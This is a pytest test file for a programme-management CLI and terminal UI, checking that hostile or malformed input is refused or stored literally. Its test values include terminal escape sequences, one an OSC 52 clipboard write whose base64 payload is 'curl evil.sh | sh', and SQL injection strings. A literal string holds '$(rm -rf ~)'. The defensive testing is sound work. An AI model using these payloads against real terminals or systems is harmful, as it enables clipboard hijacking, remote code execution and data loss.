"""A corpus of hostile or broken input, through the command line and through the forms.

Each bad input must give one clear message (CLI: exit 2 and exactly one stderr line starting
`pgmtui: error:`; form: a message in the form), no traceback, and write nothing (the row counts,
audit included, and a hash of every row are unchanged). Valid but unusual text (Rich markup, RTL,
combining marks, emoji, wide CJK) must be stored and shown literally, with the table still aligned.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from pgmtui.cli import main
from tests.privileges import as_user
from tests.reliability.corpus import build_base, file_state, fingerprint

SRC = Path(__file__).resolve().parents[2] / "src"
BIG = "x" * 100_000
RISK = ["add", "risk", "project=IAM", "impact=3", "probability=2"]


def risk_title(title: str) -> list[str]:
    return ["add", "risk", "project=IAM", "probability=2", "impact=3", f"title={title}"]


def milestone(**fields: str) -> list[str]:
    return ["add", "milestone", "project=IAM", "name=M", *(f"{k}={v}" for k, v in fields.items())]


# (case id, argv after `--db DB`, a phrase the one-line message must contain)
CLI_CASES: list[tuple[str, list[str], str]] = [
    # impossible and out-of-range dates
    ("date-feb-30", milestone(forecast_date="2026-02-30"), "not a real date"),
    ("date-month-13", milestone(forecast_date="2026-13-01"), "not a real date"),
    ("date-day-00", milestone(baseline_date="2026-05-00"), "not a real date"),
    ("date-year-0", milestone(forecast_date="0000-01-01"), "date"),
    ("date-european", milestone(forecast_date="31/12/2026"), "YYYY-MM-DD"),
    ("date-far-future", milestone(forecast_date="2200-01-01"), "outside"),
    ("date-words", milestone(forecast_date="tomorrow"), "YYYY-MM-DD"),
    ("actual-in-future", milestone(actual_date="2027-06-01"), "in the future"),
    ("end-before-start", ["set", "project", "IAM", "baseline_end=2025-06-01"], "before start_date"),
    ("bad-today", ["--today", "2026-02-30", "list", "project"], "2026-02-30"),
    # probability / impact outside 1-5
    ("probability-0", [*RISK[:4], "probability=0", "title=t"], "at least 1"),
    ("probability-6", [*RISK[:4], "probability=6", "title=t"], "at most 5"),
    ("impact-0", ["add", "risk", "probability=2", "impact=0", "title=t"], "at least 1"),
    ("impact-6", ["add", "risk", "probability=2", "impact=6", "title=t"], "at most 5"),
    ("probability-fraction", ["set", "risk", "1", "probability=2.5"], "whole number"),
    ("probability-word", ["set", "risk", "1", "probability=high"], "whole number"),
    # money and percentages
    ("negative-budget", ["set", "project", "IAM", "budget=-1000"], "at least 0"),
    ("negative-budget-add", ["add", "project", "code=NEG", "name=n", "budget=-5"], "at least 0"),
    ("percent-150", ["set", "project", "IAM", "percent_complete=150"], "at most 100"),
    ("percent-150-sign", ["set", "project", "IAM", "percent_complete=150%"], "at most 100"),
    ("budget-nan", ["set", "project", "IAM", "budget=nan"], "finite"),
    ("budget-overflow", ["set", "project", "IAM", "budget=1e400"], "finite"),
    ("budget-implausible", ["set", "project", "IAM", "budget=1e15"], "implausibly large"),
    # lags
    ("lag-10-years", ["set", "dependency", "1", "lag_days=3650"], "at most 1095"),
    ("lead-10-years", ["set", "dependency", "1", "lag_days=-3650"], "at least -1095"),
    # unknown codes, kinds, fields, ids
    (
        "unknown-project-code",
        ["add", "risk", "project=NOPE", "probability=2", "impact=3", "title=t"],
        "unknown project code",
    ),
    ("unknown-project-set", ["set", "project", "NOPE", "name=x"], "unknown project code"),
    (
        "unknown-milestone",
        ["add", "dependency", "supplier=IAM:Nope", "consumer=CLD:Build"],
        "unknown milestone",
    ),
    ("unknown-kind", ["add", "spaceship", "name=x"], "unknown kind"),
    ("unknown-field", [*risk_title("t"), "colour=red"], "unknown field"),
    ("unknown-id", ["set", "risk", "999", "title=x"], "no risk with id 999"),
    ("delete-unknown", ["delete", "project", "NOPE"], "unknown project code"),
    ("list-unknown-kind", ["list", "spaceship"], "unknown kind"),
    ("bad-enum", ["set", "dependency", "1", "type=XX"], "must be one of"),
    ("bad-rag", ["set", "project", "IAM", "rag_override=purple", "rag_reason=r"], "R, A or G"),
    ("bad-bool", milestone(is_gate="maybe"), "yes or no"),
    ("wrong-response", [*risk_title("t"), "response=exploit"], "not for a threat"),
    ("override-no-reason", ["set", "project", "IAM", "rag_override=R"], "needs a reason"),
    # duplicates and cycles
    ("duplicate-code", ["add", "project", "code=IAM", "name=dup"], "already exists"),
    ("duplicate-code-case", ["add", "project", "code=iam", "name=dup"], "already exists"),
    ("duplicate-code-rename", ["set", "project", "CLD", "code=IAM"], "already exists"),
    (
        "duplicate-dependency",
        ["add", "dependency", "supplier=IAM:Design", "consumer=CLD:Build"],
        "already exists",
    ),
    ("second-programme", ["add", "programme", "name=Another"], "one per database"),
    ("cycle", ["add", "dependency", "supplier=CLD:Build", "consumer=IAM:Design"], "cycle"),
    ("self-dependency", ["add", "dependency", "supplier=IAM:Design", "consumer=IAM:Design"], "itself"),
    ("stale-version", ["set", "project", "IAM", "name=x", "--expect-version", "7"], "was changed by"),
    # empty, huge, control characters and terminal escapes
    ("empty-title", risk_title(""), "required"),
    ("blank-title", risk_title("   "), "blank"),
    ("title-100kB", risk_title(BIG), "too long"),
    ("note-100kB", ["set", "project", "IAM", f"status_note={BIG}"], "too long"),
    ("nul-byte", risk_title("a\x00b"), "NUL"),
    ("ansi-colour", risk_title("\x1b[31mred alert\x1b[0m"), "control characters"),
    ("ansi-clear-screen", risk_title("\x1b[2J\x1b[H"), "control characters"),
    ("osc52-clipboard", risk_title("copy me\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"), "control characters"),
    ("osc0-title", risk_title("\x1b]0;pwned\x07"), "control characters"),
    (
        "osc8-hyperlink",
        risk_title("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"),
        "control characters",
    ),
    ("c1-csi", risk_title("\x9b31mred"), "control characters"),
    ("bell-backspace", risk_title("a\x07\x08b"), "control characters"),
    ("newline-in-title", risk_title("two\nlines"), "single line"),
    ("code-with-escape", ["add", "project", "code=\x1b[5m", "name=x"], "control characters"),
    # SQL-shaped input is data, never SQL
    (
        "sql-in-field-name",
        ["set", "project", "IAM", "name) VALUES (1); DROP TABLE project; --=x"],
        "unknown field",
    ),
    ("sql-in-code", ["add", "project", "code=X'; DROP TABLE project;--", "name=x"], "letters, digits"),
    ("sql-in-ref", ["set", "project", "IAM' OR '1'='1", "name=x"], "unknown project code"),
    ("sql-in-kind", ["list", "project; DROP TABLE audit"], "unknown kind"),
    # malformed command lines
    ("no-equals", ["add", "risk", "title"], "FIELD=VALUE"),
    ("field-twice", ["add", "risk", "title=a", "title=b"], "given twice"),
    ("unknown-option", ["--frobnicate", "list", "project"], "unrecognized arguments"),
    ("version-not-number", ["set", "risk", "1", "version=abc", "title=x"], "whole number"),
    ("nothing-to-set", ["set", "risk", "1", "version=1"], "nothing to change"),
]


@pytest.fixture(scope="module")
def base_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    mp = pytest.MonkeyPatch()
    mp.setenv("PGMTUI_TODAY", "2026-11-25")
    path = build_base(tmp_path_factory.mktemp("corpus") / "base.db")
    mp.undo()
    return path


@pytest.fixture
def base_db(base_template: Path, tmp_path: Path) -> Path:
    target = tmp_path / "base.db"
    shutil.copyfile(base_template, target)
    os.chmod(target, 0o600)
    return target


def run_cli(capsys: pytest.CaptureFixture[str], db: Path, argv: list[str]) -> tuple[int, str, str]:
    code = main(["--db", str(db), *argv])
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_clear_error(code: int, err: str, phrase: str) -> None:
    lines = err.splitlines()
    assert code == 2, (code, err)
    assert len(lines) == 1, lines
    assert lines[0].startswith("pgmtui: error: "), lines
    assert phrase.lower() in lines[0].lower(), lines[0]
    assert "Traceback" not in err
    assert "\x1b" not in err and "\x07" not in err and "\x00" not in err  # escapes never echoed raw
    assert len(lines[0]) < 600, "the message must stay one readable line (no 100 kB echo)"


@pytest.mark.parametrize(("argv", "phrase"), [c[1:] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES])
def test_cli_refuses_bad_input_with_one_line_and_writes_nothing(
    capsys: pytest.CaptureFixture[str], base_db: Path, argv: list[str], phrase: str
) -> None:
    before = fingerprint(base_db)
    code, _, err = run_cli(capsys, base_db, argv)
    assert_one_clear_error(code, err, phrase)
    assert fingerprint(base_db) == before


# ---------------------------------------------------------------------- broken database files


def _newer_schema(db: Path) -> None:
    conn = sqlite3.connect(db)
    conn.execute("UPDATE meta SET value = '99' WHERE key = 'schema_version'")
    conn.commit()
    conn.close()


def _truncate(db: Path) -> None:
    data = db.read_bytes()
    db.write_bytes(data[: len(data) // 2])


def _damage_page(db: Path) -> None:
    """Overwrite the page that holds the risk table's rows (the file keeps its size)."""
    conn = sqlite3.connect(db)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'risk'").fetchone()[0]
    page_size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    data = bytearray(db.read_bytes())
    data[(root - 1) * page_size : root * page_size] = b"\xff" * page_size
    db.write_bytes(bytes(data))


def _not_sqlite(db: Path) -> None:
    db.write_text("Programme notes, not a database.\n" * 100)


def _other_sqlite(db: Path) -> None:
    db.unlink()
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE songs (title TEXT)")
    conn.commit()
    conn.close()


def _random_bytes(db: Path) -> None:
    db.write_bytes(bytes(range(256)) * 64)


FILE_CASES = [
    ("not-sqlite", _not_sqlite, ["list", "project"], "not an SQLite file"),
    (
        "random-bytes",
        _random_bytes,
        ["add", "risk", "title=t", "probability=2", "impact=2"],
        "not an SQLite file",
    ),
    ("other-sqlite-db", _other_sqlite, ["list", "project"], "not a pgmtui database"),
    ("truncated", _truncate, ["list", "project"], "malformed"),
    ("truncated-add", _truncate, ["add", "risk", "title=t", "probability=2", "impact=2"], "malformed"),
    ("damaged-page-list", _damage_page, ["list", "risk"], "damaged"),
    ("damaged-page-rollup", _damage_page, ["rollup"], "damaged"),
    ("newer-schema", _newer_schema, ["list", "project"], "newer pgmtui"),
    (
        "newer-schema-add",
        _newer_schema,
        ["add", "risk", "title=t", "probability=2", "impact=2"],
        "newer pgmtui",
    ),
]


@pytest.mark.parametrize(
    ("spoil", "argv", "phrase"), [c[1:] for c in FILE_CASES], ids=[c[0] for c in FILE_CASES]
)
def test_cli_refuses_broken_database_files(
    capsys: pytest.CaptureFixture[str], base_db: Path, spoil, argv: list[str], phrase: str
) -> None:
    spoil(base_db)
    os.chmod(base_db, 0o600)
    before = file_state(base_db.parent)
    code, _, err = run_cli(capsys, base_db, argv)
    assert_one_clear_error(code, err, phrase)
    after = file_state(base_db.parent)
    assert after.get(base_db.name) == before[base_db.name], "the broken file was modified"


def test_cli_missing_folder_and_missing_file_and_folder_as_db(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = run_cli(
        capsys, tmp_path / "no" / "such" / "folder" / "p.db", ["add", "programme", "name=P"]
    )
    assert_one_clear_error(code, err, "does not exist")
    assert not (tmp_path / "no").exists()
    code, _, err = run_cli(capsys, tmp_path / "missing.db", ["list", "project"])
    assert_one_clear_error(code, err, "does not exist")
    assert not (tmp_path / "missing.db").exists()
    code, _, err = run_cli(capsys, tmp_path, ["add", "programme", "name=P"])
    assert_one_clear_error(code, err, "is a folder")


# ---------------------------------------------------------------------- permissions (as a plain user)


def _cli_in_child(argv: list[str]) -> str:
    """Run the CLI as the unprivileged child; return 'exit N' and stderr as one JSON text."""
    import contextlib
    import io

    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(argv)
    return json.dumps({"code": code, "err": err.getvalue()})


def _perm_case(db: Path, argv: list[str]) -> tuple[int, str]:
    result = as_user(lambda: _cli_in_child(["--db", str(db), *argv]))
    assert not result.startswith("child failed"), result
    data = json.loads(result)
    return data["code"], data["err"]


def test_cli_read_only_database(open_tmp: Path, base_template: Path) -> None:
    db = open_tmp / "ro.db"
    shutil.copyfile(base_template, db)
    os.chmod(db, 0o640)  # readable by its group only: the child is not in it...
    os.chown(db, 0, 65534)  # ...unless the group is nogroup: readable, not writable
    before = fingerprint(db)
    code, err = _perm_case(db, ["add", "risk", "project=IAM", "title=t", "probability=2", "impact=2"])
    assert_one_clear_error(code, err, "read-only")
    assert fingerprint(db) == before
    code, err = _perm_case(db, ["set", "project", "IAM", "name=Renamed"])
    assert_one_clear_error(code, err, "read-only")
    assert fingerprint(db) == before


def test_cli_unreadable_database(open_tmp: Path, base_template: Path) -> None:
    db = open_tmp / "secret.db"
    shutil.copyfile(base_template, db)
    os.chmod(db, 0o600)
    code, err = _perm_case(db, ["list", "project"])
    assert_one_clear_error(code, err, "permission denied")


def test_cli_folder_without_write_permission(open_tmp: Path) -> None:
    folder = open_tmp / "locked"
    folder.mkdir()
    os.chmod(folder, 0o555)
    code, err = _perm_case(folder / "new.db", ["add", "programme", "name=P"])
    assert_one_clear_error(code, err, "not writable")
    assert list(folder.iterdir()) == []


# ---------------------------------------------------------------------- valid but unusual text

LITERAL_TEXTS = [
    ("rich-markup", "[bold red]ALERT[/] [link=http://evil.example]click[/link]"),
    ("rich-escape", "\\[not markup] and [/] alone"),
    ("rtl-arabic", "مشروع إدارة الهوية"),
    ("rtl-hebrew-mixed", "פרויקט ענן Cloud 2027"),
    ("combining", "Zoe\u0308 Ha\u0300 n\u0303 Z\u0335\u0321a\u0336l\u0337g\u0338o"),
    ("emoji", "🚀 Launch 👩\u200d💻 team 🇬🇧"),
    ("wide-cjk", "身份管理プロジェクト 클라우드"),
    ("percent-braces", "100% {name} %s $(rm -rf ~) `id`"),
    ("sql-shaped", "x'); DROP TABLE risk; -- \" OR 1=1"),
]


@pytest.mark.parametrize("text", [t for _, t in LITERAL_TEXTS], ids=[i for i, _ in LITERAL_TEXTS])
def test_cli_stores_and_prints_unusual_text_literally(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, base_db: Path, text: str
) -> None:
    monkeypatch.setenv("COLUMNS", "250")  # wide enough that the table does not fold the title
    code, out, err = run_cli(capsys, base_db, risk_title(text))
    assert code == 0, err
    rid = int(out.strip())
    code, out, err = run_cli(capsys, base_db, ["list", "risk", "--json"])
    assert code == 0 and err == ""
    assert next(r for r in json.loads(out) if r["id"] == rid)["title"] == text
    code, out, err = run_cli(capsys, base_db, ["list", "risk"])
    assert code == 0 and err == ""
    assert text in out or not text.isprintable()  # printed as typed: markup not applied, nothing eaten
    assert "\x1b" not in out


# ---------------------------------------------------------------------- real processes


SUBPROCESS_CASES = [
    ("bad-date", None, milestone(forecast_date="2026-02-30"), "not a real date"),
    ("osc-title", None, risk_title("\x1b]0;pwned\x07"), "control characters"),
    ("not-sqlite", _not_sqlite, ["list", "project"], "not an SQLite file"),
    ("newer-schema", _newer_schema, ["rollup"], "newer pgmtui"),
    ("damaged-page", _damage_page, ["list", "risk"], "damaged"),
]


@pytest.mark.parametrize(
    ("spoil", "argv", "phrase"), [c[1:] for c in SUBPROCESS_CASES], ids=[c[0] for c in SUBPROCESS_CASES]
)
def test_real_process_prints_one_line_and_no_traceback(
    base_db: Path, spoil, argv: list[str], phrase: str
) -> None:
    if spoil:
        spoil(base_db)
        os.chmod(base_db, 0o600)
    env = {**os.environ, "PYTHONPATH": str(SRC), "PGMTUI_TODAY": "2026-11-25"}
    result = subprocess.run(
        [sys.executable, "-m", "pgmtui", "--db", str(base_db), *argv],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert_one_clear_error(result.returncode, result.stderr, phrase)
    assert result.stdout == ""


# ---------------------------------------------------------------------- the forms (Pilot)

# (case id, {field: pasted text}, phrase the form must show). Code and name default to valid values.
FORM_CASES: list[tuple[str, dict[str, str], str]] = [
    ("empty-name", {"name": ""}, "required"),
    ("blank-name", {"name": "   "}, "blank"),
    ("name-100kB", {"name": BIG}, "too long"),
    ("nul-byte", {"name": "a\x00b"}, "NUL"),
    ("ansi-colour", {"name": "\x1b[31mred\x1b[0m"}, "control characters"),
    ("osc52-clipboard", {"name": "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"}, "control characters"),
    ("osc0-title", {"name": "\x1b]0;pwned\x07"}, "control characters"),
    ("note-escape", {"status_note": "fine\n\x1b[2J"}, "control characters"),
    ("duplicate-code", {"code": "IAM"}, "already exists"),
    ("duplicate-code-case", {"code": "cld"}, "already exists"),
    ("bad-code", {"code": "BAD CODE"}, "letters, digits"),
    ("negative-budget", {"budget": "-5"}, "at least 0"),
    ("budget-words", {"budget": "lots"}, "must be an amount"),  # the money field says how to write one
    ("percent-150", {"percent_complete": "150"}, "at most 100"),
    ("impossible-date", {"start_date": "2026-02-30"}, "not a real date"),
    ("date-format", {"forecast_end": "12/31/2026"}, "YYYY-MM-DD"),
    ("end-before-start", {"start_date": "2026-06-01", "baseline_end": "2026-01-01"}, "before start_date"),
    ("override-no-reason", {"rag_override": "R"}, "needs a reason"),
    ("bad-rag", {"rag_override": "purple", "rag_reason": "why"}, "R, A or G"),
]


async def _paste(pilot, widget, text: str) -> bool:
    """Replace a field's text by pasting (how hostile text usually arrives: bracketed paste).
    False: the field is a pick-list (issue 19) without that value, so it cannot be entered."""
    from textual import events
    from textual.widgets import Input, Select, TextArea
    from textual.widgets._select import InvalidSelectValueError

    if isinstance(widget, Select):
        try:
            widget.value = text if text else Select.NULL
        except InvalidSelectValueError:
            return False
        await pilot.pause()
        return True
    if isinstance(widget, Input):
        widget.value = ""
    elif isinstance(widget, TextArea):
        widget.text = ""
    if text:
        widget.post_message(events.Paste(text))
    await pilot.pause()
    return True


def _form_messages(form) -> str:
    from textual.widgets import Static

    parts = [str(form.query_one("#form-banner", Static).content)]
    parts += [str(w.content) for w in form.query(".form-error")]
    return " | ".join(p for p in parts if p)


VALID = {"code": "NEW", "name": "New project"}


async def test_forms_refuse_hostile_input_show_a_message_and_write_nothing(base_db: Path) -> None:
    """One project form (`n` on the portfolio), every hostile value pasted in turn, ctrl+s each
    time: the form stays open with a message and nothing reaches the database."""
    from textual.widgets import Static

    from pgmtui.app import PgmApp
    from pgmtui.screens.forms import RecordForm
    from tests.ui.helpers import wait_for_model, wait_until

    app = PgmApp(base_db)
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_for_model(pilot)
        before = fingerprint(base_db)
        await pilot.press("n")
        await wait_until(pilot, lambda: isinstance(app.screen, RecordForm), what="the project form")
        form = app.screen
        failures, current = [], {}
        for case_id, values, phrase in FORM_CASES:
            wanted = {**{name: "" for name in current}, **VALID, **values}  # undo the previous case
            unavailable = False
            for name, text in wanted.items():
                if current.get(name, "") != text:
                    if await _paste(pilot, form.query_one(f"#field-{name}"), text):
                        current[name] = text
                    else:
                        unavailable = True  # a pick-list has no such value: refused by design
            if unavailable:
                continue
            current = wanted
            form.query_one("#form-banner", Static).update("")
            await pilot.press("ctrl+s")
            await wait_until(
                pilot,
                lambda: (
                    not form.saving
                    and any(m in _form_messages(form) for m in ("Not saved", "Fix the fields"))
                ),
                what=f"{case_id}: a refusal",
            )
            shown = _form_messages(form)
            if phrase.lower() not in shown.lower() or app.screen is not form:
                failures.append(f"{case_id}: expected {phrase!r}, form shows {shown[:300]!r}")
            if any(c in shown for c in "\x1b\x07\x00"):
                failures.append(f"{case_id}: the message echoes a raw control character")
            if fingerprint(base_db) != before:
                failures.append(f"{case_id}: something was written")
                before = fingerprint(base_db)
        assert not failures, "\n".join(failures)
        await pilot.press("escape")
    print(f"\nforms: {len(FORM_CASES)} hostile inputs refused")


UNUSUAL_PROJECTS = {
    "CJK": "身份管理プロジェクト 클라우드",
    "EMO": "🚀 Launch 👩\u200d💻 team 🇬🇧",
    "RTL": "مشروع إدارة الهوية",
    "MRK": "[bold red]ALERT[/] [link=http://evil.example]x[/link]",
    "CMB": "Zoe\u0308 Ha\u0300 Z\u0335\u0321a\u0336l\u0337g\u0338o",
}


async def test_unusual_text_is_saved_from_the_form_and_shown_literally_with_the_table_aligned(
    base_db: Path,
) -> None:
    from rich.cells import cell_len

    from pgmtui.app import PgmApp
    from pgmtui.screens.forms import RecordForm
    from pgmtui.store import Store
    from tests.ui.helpers import screen_text, wait_for_model, wait_until

    app = PgmApp(base_db)
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_for_model(pilot)
        with Store.open(base_db) as s:  # some arrive from another user...
            for code in ("EMO", "RTL", "CMB"):
                s.insert("project", {"code": code, "name": UNUSUAL_PROJECTS[code]})
        for code in ("CJK", "MRK"):  # ...and some are pasted into the form here
            name = UNUSUAL_PROJECTS[code]
            await pilot.press("n")
            await wait_until(pilot, lambda: isinstance(app.screen, RecordForm), what="the project form")
            form = app.screen
            await _paste(pilot, form.query_one("#field-code"), code)
            await _paste(pilot, form.query_one("#field-name"), name)
            await pilot.press("ctrl+s")
            await wait_until(pilot, lambda: not isinstance(app.screen, RecordForm), what=f"{code} saved")
        await wait_until(
            pilot,
            lambda: {p["code"] for p in app.model.rows("project")} >= set(UNUSUAL_PROJECTS),
            what="the model to show the new projects",
        )
        await wait_until(pilot, lambda: all(c in screen_text(pilot) for c in UNUSUAL_PROJECTS), what="rows")
        with Store.open(base_db) as s:  # stored exactly as typed
            assert {p["code"]: p["name"] for p in s.rows("project") if p["code"] in UNUSUAL_PROJECTS} == (
                UNUSUAL_PROJECTS
            )
        lines = screen_text(pilot).splitlines()
        rows = [line for line in lines if line[:6].strip() in (*UNUSUAL_PROJECTS, "IAM", "CLD")]
        assert len(rows) == 2 + len(UNUSUAL_PROJECTS), rows
        # Markup shown as typed, not applied (the name is cut to its column: from 120 columns the
        # portfolio also shows the RAG by week, so "[bold red]AL…" is what fits).
        assert "[bold red]AL" in "\n".join(rows)
        assert "\x1b" not in "\n".join(lines)

        # The layout is intact: every row is the screen's width and the RAG badge and the
        # % complete land in the same terminal column in every row, wide characters or not.
        def column_of(line: str, *needles: str) -> int:
            at = min(i for i in (line.find(n) for n in needles) if i >= 0)
            return cell_len(line[:at])

        assert {cell_len(line) for line in rows} == {120}
        assert len({column_of(line, "▲ A", "■ G", "● R") for line in rows}) == 1, rows
        assert len({column_of(line, "0%") for line in rows}) == 1, rows

        # The whole name, literally, in the evidence panel of the selected row.
        screen = app.screen
        table = screen.query_one("#projects")
        last_saved = next(p["id"] for p in app.model.rows("project") if p["code"] == "MRK")
        # After a save the portfolio selects the saved project (when the refresh brings it): let it happen.
        await wait_until(pilot, lambda: screen.selected_id() == last_saved, what="the saved project selected")
        for code, name in UNUSUAL_PROJECTS.items():
            pid = next(p["id"] for p in app.model.rows("project") if p["code"] == code)
            assert table.select(pid)
            try:
                await wait_until(
                    pilot, lambda name=name: name in str(screen.query_one("#evidence").content), what=code
                )
            except AssertionError:
                raise AssertionError(
                    f"{code}: {name!r} not in {str(screen.query_one('#evidence').content)[:80]!r}, "
                    f"cursor {table.cursor_row} of {table.order} for {pid}"
                ) from None
